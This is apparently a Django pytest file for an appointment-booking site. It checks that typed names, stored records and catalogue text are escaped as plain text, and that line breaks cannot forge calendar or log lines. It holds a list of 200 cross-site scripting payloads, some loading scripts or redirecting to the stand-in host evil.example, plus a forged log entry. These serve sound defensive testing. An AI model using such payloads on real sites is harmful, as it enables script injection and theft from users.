"""What people type is shown letter for letter and never becomes part of a page, a file or a log."""

import copy
import io
import json
import logging
from itertools import product
from urllib.parse import quote

import pytest
from django.conf import settings as project
from django.http import HttpResponse
from django.test import Client
from icalendar import Calendar
from pytest_django import Settings

from tests.public.conftest import Book
from tests.public.markup import Document, read, stays
from tests.public.walk import Walk
from ventanilla.appointments.models import Appointment
from ventanilla.catalog import catalogue
from ventanilla.catalog.models import Office

BREAKS = ["", '"', "'", '">', "'>", "</title>", "</textarea>", "-->", "\\", "]]>"]
BODIES = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>aquí</a>",
    "<math><mi xlink:href=data:x,1>",
    " onfocus=alert(1) autofocus ",
    " style=background:url(//evil.example) ",
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% now 'Y' %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=p>",
    "<!--<script>",
    "\u2028<b>\u202e</b>",
]
PAYLOADS = [start + body for start, body in product(BREAKS, BODIES)]
Shape = tuple[str, frozenset[str]]


def shapes(page: Document) -> set[Shape]:
    return {(element.tag, frozenset(element.attributes)) for element in page.elements}


def assert_only_text(response: HttpResponse, payload: str, usual: set[Shape]) -> None:
    """The page has no element that it has not with harmless words, and shows those typed."""
    page = read(response)
    assert response.status_code < 500
    assert shapes(page) <= usual, f"{payload}: {shapes(page) - usual}"
    for element in page.elements:
        for name in {"href", "src", "action"} & set(element.attributes):
            assert stays(element, element.attributes[name]), payload
    seen = page.text + "".join(e.attributes.get("value", "") for e in page.elements)
    assert "".join(payload.split())[:40] in "".join(seen.split()), f"{payload} is not shown"


def test_there_are_two_hundred() -> None:
    assert len(set(PAYLOADS)) == 200


def test_what_is_typed_is_shown_as_it_is(walk: Walk) -> None:
    """promise: D1"""
    walk.to("datos")
    person = dict.fromkeys(walk.person, "1")
    usual = shapes(read(walk.post("datos", person)))
    places = shapes(read(walk.post("municipio", {"municipio": "Tolca"})))
    places |= shapes(read(walk.post("municipio", {"municipio": "Guadalajara de allá"})))
    for payload in PAYLOADS:
        answer = walk.post("datos", dict.fromkeys(person, payload))
        assert_only_text(answer, payload, usual)
        assert_only_text(walk.post("municipio", {"municipio": payload}), payload, places)


@pytest.mark.django_db
def test_lookup_shows_what_was_typed_as_it_is() -> None:
    """promise: D1"""
    client, key, name = Client(), "/citas/consultar/", "/citas/consultar/por-nombre/"
    wrong = shapes(read(client.post(key, {"cts": "1", "digits": "1"})))
    unfit = shapes(read(client.post(name, {"given_names": "1", "second_surname": "1"})))
    unfit |= shapes(read(client.post(name, {"given_names": "Ana"})))
    for payload in PAYLOADS:
        assert_only_text(client.post(key, {"cts": payload, "digits": "1"}), payload, wrong)
        assert_only_text(client.post(name, {"given_names": payload}), payload, unfit)


def test_what_was_stored_is_shown_as_it_is(book: Book) -> None:
    """promise: D1: even a name that today's rules would refuse"""
    appointment = book()
    address = f"/citas/ver/{appointment.token}/"
    usual = shapes(read(Client().get(address)))
    row = Appointment.objects.filter(pk=appointment.pk)
    for payload in PAYLOADS:
        row.update(given_names=payload, first_surname=payload)
        assert_only_text(Client().get(address), payload, usual)


def test_what_the_catalogue_says_is_shown_as_it_is(walk: Walk) -> None:
    """promise: D1: names of offices and their addresses come from a file that people edit"""
    usual = shapes(walk.to("dia").get("dia"))
    offices = shapes(read(walk.client.get("/oficinas/")))
    for payload in PAYLOADS[:: len(BODIES) // 4]:
        Office.objects.update(name=payload, address=payload)
        catalogue.forget()
        assert_only_text(walk.client.get("/citas/nueva/dia/"), payload, usual)
        assert_only_text(walk.client.get("/oficinas/"), payload, offices)


def test_these_tests_see_a_page_that_does_not_escape(walk: Walk, settings: Settings) -> None:
    """The negative control."""
    walk.to("municipio")
    usual = shapes(read(walk.post("municipio", {"municipio": "Guadalajara de allá"})))
    templates = copy.deepcopy(project.TEMPLATES)
    templates[0]["OPTIONS"]["autoescape"] = False
    settings.TEMPLATES = templates
    for payload in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"):
        response = walk.post("municipio", {"municipio": payload})
        with pytest.raises(AssertionError):
            assert_only_text(response, payload, usual)


def test_line_breaks_in_a_name_leave_the_calendar_file_whole(book: Book) -> None:
    """promise: D5"""
    appointment = book(given_names="Ana\r\nEva", first_surname="Luna\n\tSol", second_surname="")

    response = Client().get(f"/citas/ver/{appointment.token}/calendario.ics")

    assert appointment.full_name == "Ana Eva Luna Sol"
    lines = response.content.split(b"\r\n")
    assert all(len(line) <= 75 for line in lines)
    assert not any(b"\r" in line or b"\n" in line for line in lines)
    event = Calendar.from_ical(response.content).walk("VEVENT")[0]
    assert "A nombre de: Ana Eva Luna Sol\n" in event["DESCRIPTION"]
    assert len(event.walk("VALARM")) == 2


@pytest.mark.django_db
def test_line_breaks_make_no_second_line_in_the_log() -> None:
    """promise: D5"""
    forged = "\r\n" + '{"level": "INFO", "message": "todo bien"}'
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(logging.getLogger().handlers[0].formatter)
    log = logging.getLogger("django.security.csrf")
    log.addHandler(handler)
    try:
        Client(enforce_csrf_checks=True).post(f"/citas/ver/a{quote(forged)}/cancelar/")
        log.warning("Nombre: %s", forged)
    finally:
        log.removeHandler(handler)

    entries = [json.loads(line) for line in written.getvalue().splitlines()]
    assert [entry["level"] for entry in entries] == ["WARNING", "WARNING"]
    assert entries[1]["message"] == f"Nombre: {forged}"


def test_every_log_of_the_project_is_json() -> None:
    """promise: D5"""
    assert {handler["formatter"] for handler in project.LOGGING["handlers"].values()} == {"json"}
